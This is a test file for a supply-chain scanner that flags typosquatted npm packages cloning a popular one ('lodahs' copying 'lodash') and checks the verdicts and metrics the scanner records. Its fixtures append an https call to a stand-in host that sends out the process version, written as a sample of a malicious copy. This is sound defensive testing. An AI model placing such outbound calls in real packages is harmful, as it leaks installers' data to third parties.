import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { RegistryFeed, VerdictEvent } from '@weir/model';
import { createNpmFeed, createRequests, unlimitedAllowance } from '@weir/registries';
import { type NpmStandIn, type Publication, startNpmStandIn } from '@weir/registries/npm/stand-in';
import { createHttpClient, systemClock } from '@weir/runtime';
import { startTestPostgres, type TestPostgres } from '@weir/store/testing';
import { afterAll, afterEach, beforeAll, beforeEach, expect, it, vi } from 'vitest';
import { openHarness } from './testing/harness.ts';

const PATIENCE = { timeout: 55_000, interval: 50 };
const CODE = Array.from(
  { length: 24 },
  (_, index) => `exports.lines${index} = (text) => text.split(' ').slice(${index}).join('${index}');`,
).join('\n');
const SENDING = `${CODE}\nrequire('node:https').get('https://lines.weir.example/' + process.version);\n`;
const OWN = "exports.own = true;\nrequire('node:https').get('https://lines.weir.example/');\n";
const ANN = { name: 'ann', email: 'ann@people.example' };
const BOB = { name: 'bob', email: 'bob@people.example' };
const YEARS_AGO = new Date(systemClock.now() - 800 * 24 * 60 * 60 * 1000).toISOString();

let postgres: TestPostgres;
let standIn: NpmStandIn;
let resources: AsyncDisposableStack;
let feed: RegistryFeed;
let harness: Awaited<ReturnType<typeof openHarness>>;

beforeAll(async () => {
  postgres = await startTestPostgres();
});
afterAll(() => postgres[Symbol.asyncDispose]());
beforeEach(async () => {
  resources = new AsyncDisposableStack();
  const databaseUrl = await postgres.createDatabase();
  standIn = resources.use(await startNpmStandIn());
  const evidenceDir = await mkdtemp(join(tmpdir(), 'weir-analyzer-original-'));
  resources.defer(() => rm(evidenceDir, { recursive: true, force: true }));
  const http = resources.use(createHttpClient({ userAgent: 'weir-test' }));
  const requests = resources.use(
    createRequests({ http, clock: systemClock, random: () => 0, allowance: unlimitedAllowance }),
  );
  feed = createNpmFeed({ requests, clock: systemClock, documentsBase: standIn.url });
  const origin = new URL(standIn.url).origin;
  harness = resources.use(
    await openHarness({ databaseUrl, origin, evidenceDir, readPackage: async () => feed }),
  );
  await harness.listen();
  await harness.start();
});
afterEach(() => resources.disposeAsync());

/** Publishes a popular package of ann's, and another one today; waits for the verdict on that. */
async function analyse(other: Publication, original = CODE): Promise<VerdictEvent['data']['judgement']> {
  const popular = { name: 'lodash', version: '4.17.21', time: YEARS_AGO, publisher: ANN };
  standIn.world.publish([{ ...popular, files: { 'index.js': original } }]);
  standIn.world.publish([other]);
  const how = { known: new Set<string>(), fresh: true };
  const resolved = await feed.resolve(other.name, how, AbortSignal.timeout(10_000));
  if (resolved.kind !== 'present') throw new Error(`${other.name} is absent`);
  await harness.announceResolved(resolved.releases);
  return vi.waitFor(() => {
    const found = harness.verdicts.find(({ data }) => data.release.name === other.name);
    if (!found) throw new Error('no verdict yet');
    return found.data.judgement;
  }, PATIENCE);
}

/** How often the popular package's tarball was asked for. */
function asked(): number {
  return standIn.requests.filter(({ path }) => path.endsWith('/lodash-4.17.21.tgz')).length;
}

async function rules(): Promise<readonly string[]> {
  const rows = await harness.query(`SELECT rule FROM findings WHERE detector = 'cloned-package' ORDER BY 1`);
  return rows.map(({ rule }) => String(rule));
}

function copy(part: Partial<Publication> = {}): Publication {
  return { name: 'lodahs', version: '1.0.0', publisher: BOB, files: { 'index.js': SENDING }, ...part };
}

it('holds a new package whose name is near a popular one against that, and tells what the copy does besides', async () => {
  expect(await analyse(copy())).toMatchObject({ verdict: 'suspicious' });

  expect(await rules()).toEqual([
    'cloned-package/ability',
    'cloned-package/copy',
    'cloned-package/destination',
  ]);
  expect(asked()).toBe(1);
  expect(harness.verdicts).toHaveLength(1);
  expect(await harness.metrics()).toContain('weir_analyzer_originals_total{outcome="copy"} 1');
});

it.each([
  ['has code of its own', copy({ files: { 'index.js': OWN } }), 1, 'own-code'],
  ['is published by the same people', copy({ publisher: ANN }), 0, 'same-people'],
])('says nothing of one that %s', async (_, other, fetched, outcome) => {
  expect(await analyse(other)).toMatchObject({ verdict: 'benign' });

  expect(await rules()).toEqual([]);
  expect(asked()).toBe(fetched);
  expect(await harness.metrics()).toContain(`weir_analyzer_originals_total{outcome="${outcome}"} 1`);
});

it('asks for nothing where the name is near none', async () => {
  expect(await analyse(copy({ name: 'harbour-lines-weir' }))).toMatchObject({ verdict: 'benign' });

  expect(asked()).toBe(0);
  expect(await harness.metrics()).not.toContain('weir_analyzer_originals_total{');
});

it('records a copy whose original cannot be had as it was read', async () => {
  const first = copy();
  standIn.world.publish([{ name: 'lodash', version: '4.17.21', time: YEARS_AGO, publisher: ANN }]);
  standIn.world.unpublish('lodash', ['4.17.21']);
  standIn.world.publish([first]);
  const how = { known: new Set<string>(), fresh: true };
  const resolved = await feed.resolve('lodahs', how, AbortSignal.timeout(10_000));
  if (resolved.kind !== 'present') throw new Error('lodahs is absent');
  await harness.announceResolved(resolved.releases);

  await vi.waitFor(() => expect(harness.verdicts).toHaveLength(1), PATIENCE);
  expect(harness.verdicts[0]?.data.judgement).toMatchObject({ verdict: 'benign', complete: true });
  expect(await harness.metrics()).toMatch(
    /weir_analyzer_originals_total\{outcome="(?:absent|unavailable)"\} 1/,
  );
});
